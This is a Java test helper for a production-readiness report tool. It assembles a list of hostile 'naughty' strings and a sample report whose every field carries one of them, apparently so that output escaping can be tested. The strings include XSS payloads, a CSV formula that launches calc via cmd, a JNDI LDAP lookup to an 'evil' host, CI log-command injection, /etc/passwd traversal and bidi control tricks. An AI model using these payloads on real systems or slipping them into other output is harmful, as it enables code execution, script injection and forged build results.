package dev.prr.core.report.format;

import dev.prr.core.evaluate.Finding;
import dev.prr.core.evaluate.Outcome;
import dev.prr.core.evaluate.RuleResult;
import dev.prr.core.fact.Fact;
import dev.prr.core.fact.Gap;
import dev.prr.core.report.Remark;
import dev.prr.core.report.RunReport;
import dev.prr.core.report.Sample;
import dev.prr.core.rule.MustHave;
import dev.prr.core.rule.Severity;
import dev.prr.core.service.Origin;
import dev.prr.core.service.Stage;
import dev.prr.core.service.Tier;
import dev.prr.core.service.Waiver;
import dev.prr.core.source.Location;
import dev.prr.core.source.SourcePath;
import dev.prr.core.verdict.Ahead;
import dev.prr.core.verdict.Decision;
import dev.prr.core.verdict.DecisionKind;
import dev.prr.core.verdict.ServiceVerdict;
import dev.prr.core.verdict.Verdict;
import dev.prr.core.verdict.Waived;
import dev.prr.core.verdict.WaiverState;
import dev.prr.core.verdict.WaiverUse;
import dev.prr.core.workspace.LeftOut;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/** Text that wants to be more than text, and runs that say it wherever outside text can stand. */
final class Naughty {

  /** One or more of each class: what acts in a console, a build server, a table, a page, a tree. */
  static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "\t\ttabs\tand trailing\t",
          "two\nlines\r\nand\rmore\u2028separated\u2029so\u0085",
          "\u0000\u0001\b\f\u000b\u000e\u001f\u007f\u0080\u009f",
          "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J",
          "\u202etxt.exe \u2066isolate\u2069 \u061c\u200f",
          "zero\u200bwidth\u200d\ufeff\u2060\u00ad",
          "\ud800 lone \udc00",
          "\ufffe\uffff\ufdd0",
          "\ud83d\udca9 \ud83c\uddf8\ud83c\uddea Ω≈ç√ 田中さん \u0301\u0301\u0301",
          "\udb40\udc41\udb40\udc7f tags",
          "::error file=a,line=1::owned",
          "\n::set-output name=x::y\n::stop-commands::z",
          "x\r::add-mask::y%0A::debug::z",
          "##vso[task.setvariable variable=x]y",
          "##[error]x ##teamcity[buildStatus status='SUCCESS']",
          "=1+1",
          "=cmd|' /C calc'!A0",
          "+1",
          "-1+2",
          "@SUM(1)",
          "\t=1",
          "  =1",
          "\"=1\",=2",
          "\uff1d1+1",
          "a,b;c\"d\"\"e",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "\"><svg/onload=alert(1)>",
          "' onmouseover='alert(1)",
          "</title></text><script>alert(1)</script>",
          "<!--",
          "-->",
          "<![CDATA[x]]>",
          "]]>",
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
          "&lt;b&gt; &amp;amp; &#x1b; &#0;",
          "[link](https://evil.example) ![image](https://evil.example/x.png)",
          "[ref]: https://evil.example \"title\"",
          "https://evil.example www.evil.example mailto:a@evil.example evil@example.com",
          "<https://evil.example>",
          "@everyone #1 octo/repo#2 GH-3",
          "`code` ``` ~~~",
          "# heading",
          "> quote",
          "- item",
          "+ item",
          "* item",
          "1. item",
          "12) item",
          "---",
          "===",
          "| a | b |",
          "a \\| b \\",
          "*emphasis* __strong__ ~~strike~~ <kbd>k</kbd>",
          "_a_ a_b_c __a__b_c_ _a_b_",
          "$x^2$ [^1] :smile: {: .class}",
          "{0} {1} {{x}} ${jndi:ldap://evil} %s %n %1$s",
          "\\u0000 \\n \\\" \\",
          "\"}], \"verdict\": \"READY\", \"x\": [{\"",
          "# EOF\nprr_service_ready{service=\"x\"} 1",
          "x\"} 1\nevil{y=\"",
          "../../etc/passwd%00 C:\\windows file:///etc/passwd",
          "javascript:alert(1) data:text/html,x",
          "x".repeat(100_000),
          "[".repeat(2_000) + "(".repeat(2_000) + "*".repeat(2_000) + "`".repeat(2_001));

  private Naughty() {}

  /** A run with one of everything, in which every outside text is this one. */
  static RunReport report(String text) {
    Location place = new Location(path(text), 3, 7);
    MustHave rule =
        new MustHave(
            text,
            List.of(text),
            text,
            Set.of(text),
            text,
            text,
            text,
            List.of(text),
            Sample.rule("a-rule", "ALR-01", "Why.", "Fix.").severity(),
            Sample.rule("a-rule", "ALR-01", "Why.", "Fix.").audience(),
            Stage.LAUNCH,
            Sample.rule("a-rule", "ALR-01", "Why.", "Fix.").rollout(),
            Sample.rule("a-rule", "ALR-01", "Why.", "Fix.").waivable(),
            List.of(text),
            List.of(text),
            Optional.of(text));
    Finding finding =
        new Finding(text, place, List.of(place), text, Sample.digest("finding").hex());
    Finding covered =
        new Finding(text, place, List.of(place), text, Sample.digest("covered").hex());
    Waiver waiver = waiver(text, place);
    Gap gap = new Gap(Gap.Reason.UNRENDERED, text, place);
    Decision failed =
        new Decision(
            new RuleResult(
                rule, Outcome.FAILED, List.of(finding, covered), List.of(), text, 1, List.of()),
            DecisionKind.FAIL,
            Severity.BLOCKER,
            true,
            text,
            Optional.empty(),
            List.of(new Waived(waiver, List.of(covered), false)));
    Decision unknown =
        new Decision(
            new RuleResult(rule, Outcome.UNKNOWN, List.of(), List.of(gap), text, 1, List.of()),
            DecisionKind.UNKNOWN,
            Severity.BLOCKER,
            true,
            text,
            Optional.empty());
    Decision passed =
        new Decision(
            new RuleResult(rule, Outcome.PASSED, List.of(), List.of(), text, 1, List.of()),
            DecisionKind.PASS,
            Severity.MAJOR,
            false,
            text,
            Optional.empty());
    ServiceVerdict service =
        new ServiceVerdict(
            text,
            Fact.known(text, place),
            Tier.TIER1,
            Stage.LAUNCH,
            Verdict.NOT_READY,
            List.of(failed, unknown, passed),
            List.of(new WaiverUse(waiver, WaiverState.IN_FORCE, Optional.of(3L), text)),
            List.of(new Ahead(Ahead.Kind.REVIEW, LocalDate.of(2026, 12, 1), text, place)),
            place);
    return Sample.report(
            Verdict.NOT_READY,
            List.of(service),
            List.of(new LeftOut(LeftOut.Reason.MALFORMED, text, place)),
            List.of(Remark.at(place, text)))
        .withWarning(Remark.of(text));
  }

  private static Waiver waiver(String text, Location place) {
    Fact<String> said = Fact.known(text, place);
    return new Waiver(
        said,
        said,
        Fact.known(Waiver.Type.TEMPORARY, place),
        said,
        said,
        said,
        said,
        Fact.known(LocalDate.of(2026, 11, 1), place),
        Fact.known(LocalDate.of(2026, 12, 2), place),
        Fact.known(Duration.ofDays(31), place),
        Fact.known(0, place),
        Fact.known(Origin.TREE, place),
        said,
        said,
        said,
        place);
  }

  /** As a file may be called: a path has no empty or idle segment. */
  private static SourcePath path(String text) {
    return new SourcePath("deploy/a" + text.replace('/', '_'));
  }
}
